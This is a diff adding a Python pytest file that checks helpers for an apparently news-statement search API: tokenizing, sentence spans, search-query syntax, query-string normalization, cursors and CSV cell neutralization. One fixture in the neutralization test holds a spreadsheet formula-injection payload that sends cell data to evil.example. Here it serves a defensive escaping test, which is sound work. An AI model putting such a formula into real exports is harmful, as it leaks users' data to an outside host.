@@ -1,0 +1,262 @@
+"""The pure helpers, from tables of cases: text folding and search tokens, sentences, search
+queries, cursors, date branches' parameters, and CSV cells."""
+
+from datetime import date
+from typing import Any
+
+import pytest
+
+from api.errors import InvalidCursor, InvalidParameter
+from api.paging import PageRequest, decode_cursor, filters_fingerprint
+from api.queries.common import DateRange
+from api.queries.dates import date_params
+from api.query_string import normalize
+from api.responses import flatten, neutralize
+from api.search import SearchQuery, match_expression
+from api.text import compounds, search_tokens, sentence_around, sentence_breaks, token, words
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Abdel Fatah El-Sisi", ["abdel", "fatah", "el", "sisi"]),
+        ("El-Sísi", ["el", "sisi"]),
+        ("Hamas’s court", ["hamas", "s", "court"]),
+        ("“Yes,” he said", ["yes", "he", "said"]),
+        ("U.S. officials", ["us", "officials"]),
+        ("US officials", ["us", "officials"]),
+        ("a U.S. ally", ["a", "us", "ally"]),  # the "a" stays a word of its own
+        ("14-0, a U.S.-sponsored resolution", ["14", "0", "a", "us", "sponsored", "resolution"]),
+        ("the U.S", ["the", "us"]),
+        ("e.g. this", ["eg", "this"]),
+        ("William J. Burns", ["william", "j", "burns"]),
+        ("a b c", ["a", "b", "c"]),  # single letters with spaces are not initials
+        ("Straße", ["strasse"]),
+        ("written➀guarantee", ["written➀guarantee"]),  # a number sign is a word character
+        ("snake_case", ["snake", "case"]),
+        ("", []),
+    ],
+)
+def test_words_fold_case_accents_punctuation_and_initials(text: str, expected: list[str]) -> None:
+    assert words(text) == expected
+
+
+@pytest.mark.parametrize(
+    ("word", "expected"),
+    [
+        ("hostages", "hostages"),
+        ("2024", "2024"),
+        ("xylophone", "xxylophone"),  # x is doubled: "x" starts the spelling of other letters
+        ("ש", "x005e9"),
+        ("אב", "x005d0x005d1"),
+        ("日本", "x065e5x0672c"),
+    ],
+)
+def test_a_token_spells_a_word_in_ascii_letters_and_digits(word: str, expected: str) -> None:
+    assert token(word) == expected
+
+
+def test_a_prefix_of_a_word_is_spelled_as_a_prefix_of_its_token() -> None:
+    for word in ("xylophone", "אבג", "naïve", "日本語"):
+        for end in range(1, len(words(word)[0]) + 1):
+            prefix = words(word)[0][:end]
+            assert token(words(word)[0]).startswith(token(prefix))
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("the cease-fire deal", {"ceasefire": "cease fire"}),
+        ("a U.S.-sponsored resolution", {}),  # the hyphen follows a period: not one word
+        ("14-0", {"140": "14 0"}),
+        ("long-term, well-known", {"longterm": "long term", "wellknown": "well known"}),
+        ("no compound here", {}),
+    ],
+)
+def test_compounds_are_the_hyphenated_words_run_together(
+    text: str, expected: dict[str, str]
+) -> None:
+    assert compounds(text) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "span", "sentence"),
+    [
+        ("One. Two three. Four.", "three", "Two three."),
+        ("Gen. Smith spoke. Then he left.", "spoke", "Gen. Smith spoke."),
+        ("William J. Burns met them. Later.", "Burns", "William J. Burns met them."),
+        ("Aid from the U.S. Army arrived. Next.", "Army", "Aid from the U.S. Army arrived."),
+        ("“Yes,” he said. “No.” She left.", "he said", "“Yes,” he said."),
+        ("Headline\n\nBody starts here. More.", "Body", "Body starts here."),
+        ("First. Second spans. Third.", "Second spans. Third", "Second spans. Third."),
+    ],
+)
+def test_the_sentence_of_a_span_holds_it_whole(text: str, span: str, sentence: str) -> None:
+    start = text.index(span)
+    begin, end = sentence_around(text, start, start + len(span), sentence_breaks(text))
+    assert text[begin:end] == sentence
+
+
+@pytest.mark.parametrize(
+    ("query", "fts5", "tsquery"),
+    [
+        ("hostage", '("hostage"*)', "((hostage:*))"),
+        ("written guarantee", '("written"*) AND ("guarantee"*)', "((written:*)) & ((guarantee:*))"),
+        ('"say yes"', '("say yes")', "((say <-> yes))"),
+        ("cease-fire", '("cease fire"* OR "ceasefire"*)', "((cease <-> fire:*) | (ceasefire:*))"),
+        ("hamas OR israel", '("hamas"*) AND ("or"*) AND ("israel"*)', None),
+        ("U.S.", '("us"*)', "((us:*))"),
+    ],
+)
+def test_a_search_is_its_words_in_each_database_s_syntax(
+    query: str, fts5: str, tsquery: str | None
+) -> None:
+    parsed = SearchQuery.parse(query)
+    assert match_expression("sqlite", parsed) == fts5
+    if tsquery is not None:
+        assert match_expression("postgresql", parsed) == tsquery
+
+
+@pytest.mark.parametrize("query", ["", "%%% ***", '""', "-", "“”"])
+def test_a_search_without_words_is_an_invalid_parameter(query: str) -> None:
+    with pytest.raises(InvalidParameter):
+        SearchQuery.parse(query)
+
+
+@pytest.mark.parametrize(
+    ("raw", "normalized"),
+    [
+        ("q=&speaker=", ""),
+        ("q=hamas&_=1700000000", "q=hamas"),
+        ("utm_source=newsletter&speaker=blinken", "speaker=blinken"),
+        ("stance=supports,demands", "stance=supports&stance=demands"),
+        ("speaker=blinken&speaker=hamas", "speaker=blinken&speaker=hamas"),
+        ("speaker=blinken,+", "speaker=blinken"),
+        ("q=a,b", "q=a%2Cb"),  # a search keeps its commas
+        ("location=Cairo,+Egypt", "location=Cairo%2C+Egypt"),
+    ],
+)
+def test_a_query_string_means_what_a_browser_means_by_it(raw: str, normalized: str) -> None:
+    assert normalize(raw) == normalized
+
+
+def _request(cursor: str | None = None, **changes: Any) -> PageRequest:
+    fields: dict[str, Any] = {
+        "listing": "/statements",
+        "filters": filters_fingerprint([("speaker", "blinken")]),
+        "sort": "date",
+        "limit": 50,
+        "cursor": cursor,
+    }
+    return PageRequest(**{**fields, **changes})
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        ("2024-06-10", 12),
+        ("2024-06-10", 0, 7),
+        ("abdel fatah el sisi", 5),
+    ],
+)
+def test_a_cursor_gives_back_the_key_it_was_made_with(key: tuple[Any, ...]) -> None:
+    types = [date if "-" in str(v) and str(v)[:4].isdigit() else type(v) for v in key]
+    made = _request().cursor_to("next", key)
+    decoded = decode_cursor(_request(made), types)
+    assert decoded.direction == "next"
+    assert [str(v) for v in decoded.key] == [str(v) for v in key]
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"listing": "/events"},
+        {"filters": filters_fingerprint([("speaker", "hamas")])},
+        {"sort": "-date"},
+    ],
+)
+def test_a_cursor_is_refused_by_another_list_filter_or_sort(changes: dict[str, Any]) -> None:
+    made = _request().cursor_to("next", ("2024-06-10", 12))
+    with pytest.raises(InvalidCursor):
+        decode_cursor(_request(made, **changes), [date, int])
+
+
+@pytest.mark.parametrize(
+    "key", [("2024-13-01", 1), ("2024-06-10", "1"), ("2024-06-10", 2**63), ("2024-06-10",)]
+)
+def test_a_cursor_with_a_key_of_the_wrong_type_is_refused(key: tuple[Any, ...]) -> None:
+    made = _request().cursor_to("next", key)
+    with pytest.raises(InvalidCursor):
+        decode_cursor(_request(made), [date, int])
+
+
+def test_the_same_filters_in_another_order_have_the_same_fingerprint() -> None:
+    one = filters_fingerprint([("speaker", "a"), ("q", "b"), ("limit", "5")])
+    other = filters_fingerprint([("q", "b"), ("speaker", "a"), ("cursor", "x")])
+    assert one == other
+
+
+@pytest.mark.parametrize(
+    ("dates", "params"),
+    [
+        (DateRange(None, None), {}),
+        (DateRange(None, date(2024, 6, 10)), {"date_to": date(2024, 6, 10)}),
+        (
+            DateRange(date(2024, 6, 10), date(2024, 6, 12)),
+            {
+                "date_from": date(2024, 6, 10),
+                "short_from": date(2024, 5, 10),
+                "date_to": date(2024, 6, 12),
+            },
+        ),
+        (DateRange(date(1, 1, 2), None), {"date_from": date(1, 1, 2), "short_from": date(1, 1, 1)}),
+    ],
+)
+def test_a_date_range_binds_its_branches_parameters(
+    dates: DateRange, params: dict[str, date]
+) -> None:
+    assert date_params(dates) == params
+
+
+@pytest.mark.parametrize(
+    ("document", "row"),
+    [
+        ({"a": 1, "b": None}, {"a": "1", "b": ""}),
+        ({"speaker": {"slug": "x", "name": "X"}}, {"speaker.slug": "x", "speaker.name": "X"}),
+        ({"direct": True, "anonymous": False}, {"direct": "true", "anonymous": "false"}),
+        ({"terms": [{"slug": "a"}, {"slug": "b"}]}, {"terms": "a; b"}),
+        ({"participants": [{"actor": {"slug": "x"}, "role": "host"}]}, {"participants": "x (host)"}),
+        ({"aliases": [{"name": "Blinken", "evidence": {}}]}, {"aliases": "Blinken"}),
+        ({"titles": ["Secretary", "Envoy"]}, {"titles": "Secretary; Envoy"}),
+    ],
+)
+def test_a_document_flattens_into_one_spreadsheet_row(
+    document: dict[str, Any], row: dict[str, str]
+) -> None:
+    assert flatten(document) == row
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
+        ("+1 555 0100", "'+1 555 0100"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rReturn", "'\rReturn"),
+        ("Hamas said yes", "Hamas said yes"),
+        ("", ""),
+        ("2024-06-10", "2024-06-10"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    cell: str, written: str
+) -> None:
+    assert neutralize(cell) == written
+
+
+def test_search_tokens_keep_the_words_in_order() -> None:
+    assert search_tokens("Hamas’s written guarantee, from Israel") == (
+        "hamas s written guarantee from israel"
+    )
